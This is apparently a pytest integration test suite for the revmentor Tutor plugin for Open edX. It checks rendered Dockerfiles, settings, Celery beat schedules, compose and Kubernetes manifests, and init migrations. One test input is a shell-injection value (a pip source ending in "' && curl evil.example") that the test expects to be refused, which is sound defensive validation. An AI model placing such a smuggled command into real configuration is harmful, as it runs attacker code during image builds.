"""tutor-contrib-revmentor, through the real Tutor CLI: what ``tutor config save`` renders.

Each test reads the files Tutor writes under ``env/`` (the image's Dockerfile, lms.yml and
cms.yml, the LMS settings modules, the docker-compose and Kubernetes manifests) and the commands
``tutor local do init`` hands to Docker. The beat schedule is executed as rendered and loaded
by Celery the way edx-platform's Celery app loads Django settings.
"""

from __future__ import annotations

import ast
import importlib.metadata
import re
import sysconfig
import types
from pathlib import Path

import pytest
import yaml
from celery import Celery

REPOSITORY = Path(__file__).resolve().parents[2]

SETTINGS_FILES = ["apps/openedx/settings/lms/production.py", "apps/openedx/settings/lms/development.py"]
ENV_FILES = ["apps/openedx/config/lms.env.yml", "apps/openedx/config/cms.env.yml"]


def revmentor_defaults() -> dict[str, object]:
    """DEFAULTS of revmentor_plugin/settings/common.py, read from the source (Django is not here)."""
    tree = ast.parse((REPOSITORY / "revmentor_plugin" / "settings" / "common.py").read_text())
    for node in tree.body:
        if isinstance(node, ast.AnnAssign) and getattr(node.target, "id", None) == "DEFAULTS":
            return ast.literal_eval(node.value)
    raise AssertionError("DEFAULTS not found in revmentor_plugin/settings/common.py")


def beat_schedule(settings_text: str) -> dict[str, dict]:
    """Run the rendered statements that build CELERYBEAT_SCHEDULE, over a schedule the platform
    already had, and load the result into Celery as edx-platform does
    (``APP.config_from_object('django.conf:settings')``: no namespace, old-style names)."""
    tree = ast.parse(settings_text)  # the whole settings module must be valid Python
    statements = [
        node
        for node in tree.body
        if "CELERYBEAT_SCHEDULE" in ast.unparse(node)
        or (isinstance(node, ast.ImportFrom) and node.module == "celery.schedules")
    ]
    platform = {"platform-task": {"task": "platform.task", "schedule": 3600.0}}
    namespace: dict[str, object] = {"CELERYBEAT_SCHEDULE": dict(platform)}
    exec(compile(ast.Module(body=statements, type_ignores=[]), "<settings>", "exec"), namespace)  # noqa: S102
    settings = types.SimpleNamespace(**{k: v for k, v in namespace.items() if k.isupper()})
    app = Celery("proj")
    app.config_from_object(settings)
    schedule = dict(app.conf.beat_schedule)
    assert schedule.get("platform-task") == platform["platform-task"], "the platform's entries are kept"
    return schedule


def compose_services(root) -> dict[str, dict]:
    return yaml.safe_load(root.read("local/docker-compose.prod.yml"))["services"]


def k8s_deployment(root, name: str) -> dict | None:
    for document in yaml.safe_load_all(root.read("k8s/deployments.yml")):
        if document and document["kind"] == "Deployment" and document["metadata"]["name"] == name:
            return document
    return None


def requirements_stage(dockerfile: str) -> str:
    """The Dockerfile stage that installs Python requirements into the openedx virtualenv."""
    match = re.search(r"^FROM .* AS python-requirements$(.*?)^FROM ", dockerfile, re.M | re.S)
    assert match, "Tutor's Dockerfile has a python-requirements stage"
    return match.group(1)


def init_scripts(root, *args: str) -> list[tuple[str, str]]:
    """(job service, script) of every job `tutor local do init` hands to docker compose."""
    root.docker_log.unlink(missing_ok=True)
    root.run("local", "do", "init", *args)
    jobs = []
    for call in root.docker_calls():
        if "run" in call:
            # ... run --rm [-T] <service>-job sh -e -c <script>
            jobs.append((call[call.index("sh") - 1], call[-1]))
    return jobs


def test_tutor_loads_the_installed_distribution(enabled_root):
    """Tutor finds the plugin through its entry point, as `pip install` leaves it for operators."""
    (entry_point,) = importlib.metadata.entry_points(group="tutor.plugin.v1", name="revmentor")
    assert entry_point.value == "tutorrevmentor.plugin"
    module = entry_point.load()
    site_packages = Path(sysconfig.get_paths()["purelib"])
    assert Path(module.__file__).is_relative_to(site_packages), "not the checkout: the built wheel"
    listed = enabled_root.run("plugins", "list").stdout
    assert re.search(r"^revmentor\t.*enabled\t0\.1\.0$", listed, re.M), listed


def test_image_installs_the_released_package_by_default(enabled_root):
    stage = requirements_stage(enabled_root.read("build/openedx/Dockerfile"))
    assert "$PIP_COMMAND install 'revmentor-plugin==0.1.0'" in stage


@pytest.mark.parametrize("relative", ENV_FILES)
def test_platform_settings_get_revmentor_defaults(enabled_root, relative):
    """lms.yml and cms.yml carry every revmentor setting with revmentor's own default."""
    config = yaml.safe_load(enabled_root.read(relative))
    rendered = {key: value for key, value in config.items() if key.startswith("REVMENTOR_")}
    assert rendered == revmentor_defaults()


@pytest.mark.parametrize("relative", SETTINGS_FILES)
def test_lms_settings_schedule_the_daily_reminders(enabled_root, relative):
    entry = beat_schedule(enabled_root.read(relative))["revmentor-send-reminders"]
    assert entry["task"] == "revmentor.send_reminders"
    assert (entry["schedule"].hour, entry["schedule"].minute) == ({7}, {0})
    assert entry["schedule"].day_of_week == set(range(7)), "every day"


def test_cms_settings_schedule_nothing(enabled_root):
    """The task runs in the LMS's worker; Studio needs no beat schedule."""
    for relative in ["apps/openedx/settings/cms/production.py", "apps/openedx/settings/cms/development.py"]:
        assert "revmentor" not in beat_schedule(enabled_root.read(relative))


def test_a_beat_process_runs_beside_the_lms_worker(enabled_root):
    services = compose_services(enabled_root)
    beat, worker = services["revmentor-beat"], services["lms-worker"]
    assert beat["command"][:3] == ["celery", "--app=lms.celery", "beat"]
    assert beat["image"] == worker["image"]
    assert beat["environment"] == worker["environment"], "the same LMS settings module"
    settings_volumes = [
        v for v in worker["volumes"] if "/openedx/edx-platform/" in v or "/openedx/config" in v
    ]
    assert set(settings_volumes) <= set(beat["volumes"]), "reads the settings Tutor renders"
    assert "lms-worker" not in beat["command"]


def test_kubernetes_runs_exactly_one_beat(enabled_root):
    beat = k8s_deployment(enabled_root, "revmentor-beat")
    worker = k8s_deployment(enabled_root, "lms-worker")
    assert beat is not None
    assert beat["spec"]["replicas"] == 1
    assert beat["spec"]["strategy"] == {"type": "Recreate"}
    (container,) = beat["spec"]["template"]["spec"]["containers"]
    (worker_container,) = worker["spec"]["template"]["spec"]["containers"]
    assert container["args"][:3] == ["celery", "--app=lms.celery", "beat"]
    assert container["env"] == worker_container["env"]
    assert container["volumeMounts"] == worker_container["volumeMounts"]


def test_init_migrates_revmentor(enabled_root):
    jobs = init_scripts(enabled_root, "--limit=revmentor")
    assert jobs == [("lms-job", jobs[0][1])]
    assert "./manage.py lms migrate revmentor" in jobs[0][1].splitlines()
    # and in a full init, after the LMS's own migrations
    scripts = [script for service, script in init_scripts(enabled_root) if service == "lms-job"]
    ours = [i for i, script in enumerate(scripts) if "migrate revmentor" in script]
    platform = [
        i for i, script in enumerate(scripts) if "./manage.py lms migrate" in script and i not in ours
    ]
    assert ours, "our migration runs"
    assert platform, "and the LMS's"
    assert platform[0] < ours[0], "ours after the platform's"


def test_changed_values_show_up(make_root):
    root = make_root()
    root.run("plugins", "enable", "revmentor")
    root.run(
        "config",
        "save",
        "--set",
        "REVMENTOR_PIP_SOURCE=git+https://git.example.org/revmentor.git@v0.2.0",
        "--set",
        "REVMENTOR_MAX_TEXT_LENGTH=4000",
        "--set",
        "REVMENTOR_REPORT_MIN_GROUP_SIZE=8",
        "--set",
        "REVMENTOR_REMINDERS_HOUR=5",
        "--set",
        "REVMENTOR_REMINDERS_MINUTE=30",
        "--set",
        "REVMENTOR_RUN_BEAT=false",
    )
    stage = requirements_stage(root.read("build/openedx/Dockerfile"))
    assert "install 'revmentor-plugin @ git+https://git.example.org/revmentor.git@v0.2.0'" in stage
    assert "revmentor-plugin==" not in stage
    for relative in ENV_FILES:
        config = yaml.safe_load(root.read(relative))
        assert config["REVMENTOR_MAX_TEXT_LENGTH"] == 4000
        assert config["REVMENTOR_REPORT_MIN_GROUP_SIZE"] == 8
        assert config["REVMENTOR_MATCHING_ASYNC_THRESHOLD"] == 2000
    for relative in SETTINGS_FILES:
        schedule = beat_schedule(root.read(relative))["revmentor-send-reminders"]["schedule"]
        assert (schedule.hour, schedule.minute) == ({5}, {30})
    # A site that runs its own beat keeps the schedule and gets no second beat.
    assert "revmentor-beat" not in compose_services(root)
    assert k8s_deployment(root, "revmentor-beat") is None
    # Back to the release from PyPI.
    root.run("config", "save", "--set", "REVMENTOR_PIP_SOURCE=", "--set", "REVMENTOR_VERSION=0.3.1")
    assert "install 'revmentor-plugin==0.3.1'" in requirements_stage(root.read("build/openedx/Dockerfile"))


def test_nothing_is_rendered_unless_the_plugin_is_enabled(make_root):
    """The same reads find nothing of revmentor without the plugin, and after disabling it."""
    root = make_root()
    root.run("config", "save")
    enabled = False
    for _ in range(2):
        assert "revmentor" not in root.read("build/openedx/Dockerfile")
        for relative in ENV_FILES:
            assert not [key for key in yaml.safe_load(root.read(relative)) if key.startswith("REVMENTOR_")]
        for relative in SETTINGS_FILES:
            assert "revmentor-send-reminders" not in beat_schedule(root.read(relative))
        assert "revmentor-beat" not in compose_services(root)
        assert k8s_deployment(root, "revmentor-beat") is None
        assert not [script for _, script in init_scripts(root) if "migrate revmentor" in script]
        if enabled:
            break
        root.run("plugins", "enable", "revmentor")
        root.run("config", "save")
        assert "revmentor-send-reminders" in beat_schedule(root.read(SETTINGS_FILES[0])), (
            "enabled, it is there"
        )
        root.run("plugins", "disable", "revmentor")
        root.run("config", "save")
        enabled = True


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("REVMENTOR_MAX_TEXT_LENGTH", "many"),
        ("REVMENTOR_REPORT_MIN_GROUP_SIZE", "0"),
        ("REVMENTOR_REMINDERS_HOUR", "24"),
        ("REVMENTOR_REMINDERS_MINUTE", "true"),
        ("REVMENTOR_RUN_BEAT", "sometimes"),
        ("REVMENTOR_VERSION", "1.10"),  # YAML reads the number 1.1
        ("REVMENTOR_VERSION", "latest"),
        ("REVMENTOR_PIP_SOURCE", "git+https://git.example.org/revmentor.git@v1' && curl evil.example"),
    ],
)
def test_a_value_revmentor_cannot_use_is_refused_by_name(make_root, name, value):
    """Tutor stores the value in config.yml, then our check stops it before anything is rendered;
    every later command says the same until the value is fixed."""
    root = make_root()
    root.run("plugins", "enable", "revmentor")  # renders the environment with the defaults
    before = {relative: root.read(relative) for relative in [*ENV_FILES, *SETTINGS_FILES]}
    result = root.run("config", "save", "--set", f"{name}={value}", check=False)
    assert result.returncode != 0
    assert f"{name} must be" in result.stderr + result.stdout
    assert {relative: root.read(relative) for relative in before} == before, "nothing rendered from it"
    again = root.run("local", "do", "init", "--limit=revmentor", check=False)
    assert again.returncode != 0
    assert f"{name} must be" in again.stderr + again.stdout
    assert not [call for call in root.docker_calls() if "run" in call], "no job started"


def test_celery_reads_the_old_style_name_only():
    """Why the patch says CELERYBEAT_SCHEDULE: without a namespace, as edx-platform configures its
    Celery app, the new-style Django name is ignored."""
    entry = {"task": "revmentor.send_reminders", "schedule": 86400.0}
    for name, expected in [("CELERYBEAT_SCHEDULE", {"x": entry}), ("CELERY_BEAT_SCHEDULE", {})]:
        app = Celery("proj")
        app.config_from_object(types.SimpleNamespace(**{name: {"x": entry}}))
        assert dict(app.conf.beat_schedule) == expected, name
